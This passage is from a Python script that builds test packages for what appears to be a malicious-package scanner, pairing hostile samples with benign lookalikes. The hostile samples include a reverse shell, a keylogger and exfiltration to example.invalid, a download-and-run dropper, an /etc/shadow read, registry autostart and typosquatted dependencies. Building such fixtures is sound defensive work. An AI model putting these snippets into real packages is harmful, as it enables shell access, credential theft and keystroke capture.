                "hops/transport.py": "import urllib.request\n\n\ndef post(data):\n    urllib.request.urlopen('http://example.invalid/', data=data.encode())\n",
            },
        ),
    ),
    "lookalike-dependency": (
        "helperkit-0.1-py3-none-any.whl",
        wheel(
            "helperkit",
            "0.1",
            {"helperkit/__init__.py": "def helper():\n    return 1\n"},
            requires="Requires-Dist: reqeusts>=2.0\n",
        ),
    ),
    "lookalike-dependency:setup-cfg": (
        "cfgkit-0.1.tar.gz",
        sdist(
            "cfgkit",
            "0.1",
            {
                "setup.py": "from setuptools import setup\nsetup()\n",
                "setup.cfg": "[metadata]\nname = cfgkit\n\n[options]\ninstall_requires =\n    numpyy>=1.0\n    packaging\n",
                "cfgkit/__init__.py": "def helper():\n    return 1\n",
            },
        ),
    ),
    "reverse-shell": (
        "rshell-0.1-py3-none-any.whl",
        wheel(
            "rshell",
            "0.1",
            {
                "rshell/__init__.py": "import os\nimport socket\nimport subprocess\n\n\ndef main():\n    s = socket.socket()\n    s.connect(('127.0.0.1', 9))\n    os.dup2(s.fileno(), 0)\n    os.dup2(s.fileno(), 1)\n    subprocess.call(['/bin/sh', '-i'])\n"
            },
        ),
    ),
    "keylogger": (
        "keys2-0.1-py3-none-any.whl",
        wheel(
            "keys2",
            "0.1",
            {
                "keys2/__init__.py": "import requests\nfrom pynput import keyboard\n\nLOG = []\n\n\ndef on_press(key):\n    LOG.append(str(key))\n    if len(LOG) > 100:\n        requests.post('http://example.invalid/k', data=''.join(LOG))\n\n\ndef start():\n    keyboard.Listener(on_press=on_press).start()\n"
            },
        ),
    ),
    "registry-autostart": (
        "autorun-0.1-py3-none-any.whl",
        wheel(
            "autorun",
            "0.1",
            {
                "autorun/__init__.py": "import winreg\n\n\ndef install(path):\n    key = winreg.OpenKey(winreg.HKEY_CURRENT_USER, r'Software\\Microsoft\\Windows\\CurrentVersion\\Run', 0, winreg.KEY_SET_VALUE)\n    winreg.SetValueEx(key, 'updater', 0, winreg.REG_SZ, path)\n"
            },
        ),
    ),
    "packed-code": (
        "armored-0.1-py3-none-any.whl",
        wheel(
            "armored",
            "0.1",
            {
                "armored/__init__.py": "from .pyarmor_runtime_000000 import __pyarmor__\n__pyarmor__(__name__, __file__, b'PY000000\\x00\\x03\\x0b')\n"
            },
        ),
    ),
    "exfiltration:class-made-on-import": (
        "grabber-0.1-py3-none-any.whl",
        wheel(
            "grabber",
            "0.1",
            {
                "grabber/__init__.py": "import getpass\nimport urllib.request\n\n\nclass Grabber:\n    def __init__(self):\n        self.user = getpass.getuser()\n\n    def send(self):\n        urllib.request.urlopen('http://example.invalid/?u=' + self.user)\n\n\nGrabber().send()\n"
            },
        ),
    ),
    "file-exec:importlib-loader": (
        "loader-0.1-py3-none-any.whl",
        wheel(
            "loader",
            "0.1",
            {
                "loader/__init__.py": "import importlib.util\nimport os\n\n_spec = importlib.util.spec_from_file_location('_cfg', os.path.join(os.path.dirname(__file__), 'cfg.dat'))\n_mod = importlib.util.module_from_spec(_spec)\n_spec.loader.exec_module(_mod)\n",
                "loader/cfg.dat": "import os, urllib.request\nurllib.request.urlopen('http://example.invalid/?' + os.environ['HOME'])\n",
            },
        ),
    ),
    "dropper:written-in-one-call": (
        "updater-0.1-py3-none-any.whl",
        wheel(
            "updater",
            "0.1",
            {
                "updater/__init__.py": "import subprocess\nimport urllib.request\n\n\ndef update():\n    data = urllib.request.urlopen('http://example.invalid/u').read()\n    open('/tmp/updater-bin', 'wb').write(data)\n    subprocess.Popen(['/tmp/updater-bin'])\n"
            },
        ),
    ),
    "credential-read:shadow": (
        "shadow-0.1-py3-none-any.whl",
        wheel(
            "shadow",
            "0.1",
            {"shadow/__init__.py": "def hashes():\n    return open('/etc/shadow').read()\n"},
        ),
    ),
}
BENIGN: dict[str, bytes] = {
    # ADR 0032: a setup.py reading its version the usual way stays allowed.
    "versioned-1.0.tar.gz": sdist(
        "versioned",
        "1.0",
        {
            "setup.py": "import os\nfrom setuptools import setup\n\nabout = {}\nwith open(os.path.join(os.path.dirname(__file__), 'versioned', '__version__.py')) as f:\n    exec(f.read(), about)\nexec(open('versioned/_meta.py').read())\nsetup(name='versioned', version=about['__version__'])\n",
            "versioned/__init__.py": "from .__version__ import __version__\n",
            "versioned/__version__.py": "__version__ = '1.0'\n",
            "versioned/_meta.py": "AUTHOR = 'someone'\n",
        },
    ),
    "tidy-1.0-py3-none-any.whl": wheel(
        "tidy",
        "1.0",
        {
            "tidy/__init__.py": '"""Tidy tables."""\n\n\ndef tidy(rows):\n    return sorted(rows)\n',
            "tidy/net.py": "import urllib.request\n\n\ndef fetch(url):\n    return urllib.request.urlopen(url).read()\n",
        },
    ),
    # Issue 16, wrongful holds: a compiler check in setup.py, a metadata client in a cloud SDK,
    # an IP literal in tests, a hyphenated sdist name, a compiled extension.
    "cloudsdk-1.0.tar.gz": sdist(
        "cloudsdk",
        "1.0",
        {
            "setup.py": "import subprocess\nfrom setuptools import setup\n"
            "flags = subprocess.check_output(['pkg-config', '--cflags', 'libffi']).split()\n"
            "subprocess.call(['cc', '-c', 'check.c'])\nsetup(name='cloudsdk', version='1.0')\n",
            "cloudsdk/__init__.py": "import urllib.request\nMETADATA = 'http://169.254.169.254/latest/api/token'\n\n\n"
            "def token():\n    return urllib.request.urlopen(METADATA).read()\n",
            "tests/test_proxy.py": "import urllib.request\nPROXY = 'http://10.0.0.1:3128'\nurllib.request.urlopen(PROXY)\n",
        },
    ),
    "python-dateish-2.8.2.tar.gz": sdist(
        "python-dateish", "2.8.2", {"dateish/__init__.py": "def parse(s):\n    return s\n"}
    ),
    "fastext-1.0-cp311-cp311-linux_x86_64.whl": wheel(
        "fastext",
        "1.0",
        {
            "fastext/__init__.py": "from ._core import *\n",
            "fastext/_core.so": b"\x7fELF\x02\x01 GCC: (GNU) 12.2 _PyInit__core",
        },
    ),
    # Downloads saved to a file but never run, and bytecode next to its source.
    "fetcher-1.0-py3-none-any.whl": wheel(
        "fetcher",
        "1.0",
        {
            "fetcher/__init__.py": "import requests, subprocess\n\n\ndef save(url, path):\n"
            "    with open(path, 'wb') as f:\n        f.write(requests.get(url).content)\n\n\n"
            "def version():\n    return subprocess.run(['git', 'describe'], check=False)\n",
            "fetcher/__pycache__/__init__.cpython-311.pyc": b"\xa7\r\r\n" + bytes(12),
        },
    ),
    # A .pth that imports its own shim (setuptools, virtualenv) and an SDK reading its config.
    "shim-1.0-py3-none-any.whl": wheel(
        "shim",
        "1.0",
        {
            "shim.pth": "import os; os.environ.get('X') and __import__('_shim').install()\n"
            "import sys; exec('import os\\nif os.getenv(\"X\"):\\n import shim')\n",
            "_shim/__init__.py": "def install():\n    return None\n",
            "shim/__init__.py": "import os\n\n\ndef config():\n"
            "    return open(os.path.expanduser('~/.aws/config')).read()\n",
        },
    ),
    # Calls across files that reach no chain, a declared backport one letter from the
    # standard library, and a project named after its import package (python- prefix).
    "layered-1.0-py3-none-any.whl": wheel(
        "layered",
        "1.0",
        {
            "layered/__init__.py": "import ujson\nfrom ._version import get_version\nfrom .net import fetch\n\n__version__ = get_version()\n",
            "layered/_version.py": "def get_version():\n    return '1.0'\n",
            "layered/net.py": "import socket, urllib.request\n\n\ndef fetch(url):\n    return urllib.request.urlopen(url).read()\n\n\n"
            "def ping(host):\n    s = socket.socket()\n    s.connect((host, 80))\n    s.close()\n",
        },
        requires="Requires-Dist: ujson\nRequires-Dist: requests>=2\n",
    ),
    "python-gadget-1.0.tar.gz": sdist(
        "python-gadget",
        "1.0",
        {"gadget/__init__.py": "def gadget():\n    return 1\n"},
        extra_metadata="Project-URL: Source, https://github.com/example/gadget\n",
    ),
    # A project named after its repository with a suffix (grpcio from the grpc repository).
    "widgetio-1.0.tar.gz": sdist(
        "widgetio",
        "1.0",
        {"widget/__init__.py": "def widget():\n    return 1\n"},
        extra_metadata="Project-URL: Source Code, https://github.com/example/widget\n",
    ),
    # Issue 16 follow-up: what the new hook rules must leave alone. A cleanup hook, a
    # registering decorator, a metaclass that records subclasses, a latin-1 cookie, a CJK
    # docstring, a console script of the project's own name and an in-tree backend that
    # only wraps setuptools (setuptools itself builds this way).
    "hooked-1.0-py3-none-any.whl": wheel(
        "hooked",
        "1.0",
        {
            "hooked/__init__.py": '# -*- coding: latin-1 -*-\n"""\u6570\u636e \uff21\uff22\uff23."""\nimport atexit, shutil, tempfile, os\n\nTMP = tempfile.mkdtemp()\nREGISTRY = {}\n\n\ndef register(f):\n    REGISTRY[f.__name__] = f\n    return f\n\n\n@register\ndef home():\n    return os.environ.get(\'HOME\')\n\n\nclass Meta(type):\n    def __init__(cls, name, bases, ns):\n        REGISTRY[name] = cls\n\n\nclass Model(metaclass=Meta):\n    pass\n\n\natexit.register(shutil.rmtree, TMP, True)\n',
            "hooked-1.0.dist-info/entry_points.txt": "[console_scripts]\nhooked = hooked:main\n",
        },
    ),
    "selfbuild-1.0.tar.gz": sdist(
        "selfbuild",
        "1.0",
        {
            "pyproject.toml": '[build-system]\nrequires = []\nbuild-backend = "selfbuild.build_meta"\nbackend-path = ["."]\n',
            "selfbuild/__init__.py": "",
            "selfbuild/build_meta.py": "import os\nimport subprocess\nimport sys\n\n\ndef build_wheel(wheel_directory, config_settings=None, metadata_directory=None):\n    subprocess.check_call([sys.executable, 'setup.py', 'bdist_wheel', '-d', wheel_directory])\n    return os.listdir(wheel_directory)[0]\n",
        },
    ),
    "plain-2.1.tar.gz": sdist(
        "plain",
        "2.1",
        {
            "setup.py": "from setuptools import setup\nsetup(name='plain', version='2.1')\n",
            "plain/__init__.py": "def add(a, b):\n    return a + b\n",
        },
    ),
    # Issue 16, ADR 0034: what the import-hook, helper-module and dependency rules leave
    # alone. A six-like finder with no sink, a wrapper of open, a module that calls its own
    # helpers with nothing to send, real projects a letter from popular ones, and a hotkey.
    "quiet-1.0-py3-none-any.whl": wheel(
        "quiet",
        "1.0",
        {
            "quiet/__init__.py": "import builtins\nimport importlib\nimport sys\n\n\nclass _Importer:\n    def __init__(self, name):\n        self.name = name\n\n    def find_spec(self, fullname, path, target=None):\n        return None\n\n    def load_module(self, fullname):\n        module = importlib.import_module(fullname.replace(self.name, 'json'))\n        sys.modules[fullname] = module\n        return module\n\n\nsys.meta_path.append(_Importer(__name__))\n_open = builtins.open\n\n\ndef _traced_open(*args, **kwargs):\n    return _open(*args, **kwargs)\n\n\nbuiltins.open = _traced_open\n",
            "quiet/setup_logging.py": "from .config import load\nfrom .net import client\n\nSETTINGS = load()\nCLIENT = client(SETTINGS)\n",
            "quiet/config.py": "import os\n\n\ndef load():\n    return {'home': os.environ.get('QUIET_HOME', '~')}\n",
            "quiet/net.py": "import urllib.request\n\n\ndef client(settings):\n    return urllib.request.build_opener()\n",
            "quiet/defaults.py": "import os\nimport urllib.request\n\n\nclass Settings:\n    def __init__(self):\n        self.home = os.environ.get('QUIET_HOME', '~')\n        self.opener = urllib.request.build_opener()\n\n    def fetch(self, url):\n        return self.opener.open(url).read()\n\n\nDEFAULT = Settings()\n",
            "quiet/_version.py": "import importlib.util\nimport os\n\n_spec = importlib.util.spec_from_file_location('_v', os.path.join(os.path.dirname(__file__), 'version.py'))\n",
            "quiet/version.py": "VERSION = '1.0'\n",
            "quiet/keys.py": "from pynput import keyboard\n\n\ndef hotkey(callback):\n    return keyboard.GlobalHotKeys({'<ctrl>+<alt>+h': callback})\n",
        },
        requires="Requires-Dist: cchardet\nRequires-Dist: authlib\nRequires-Dist: fastai\nRequires-Dist: pymssql\n"
        "Requires-Dist: markdown2\nRequires-Dist: typing_extensions>=4\nRequires-Dist: requests[socks]; extra == 'proxy'\n"
        "Requires-Dist: Python-Dateutil\nRequires-Dist: pyaml\n",
    ),
}


def build(out: Path) -> dict[str, Path]:
    out.mkdir(parents=True, exist_ok=True)
    written = {}
    for rule, (filename, data) in MALICIOUS.items():
        (out / filename).write_bytes(data)
        written[rule] = out / filename
    for filename, data in BENIGN.items():
        (out / filename).write_bytes(data)
        written[f"benign:{filename}"] = out / filename
    return written


def main() -> None:
    parser = argparse.ArgumentParser(description="Build test packages.")
    parser.add_argument("out", type=Path)
    print(f"wrote {len(build(parser.parse_args().out))} packages")


if __name__ == "__main__":
    main()
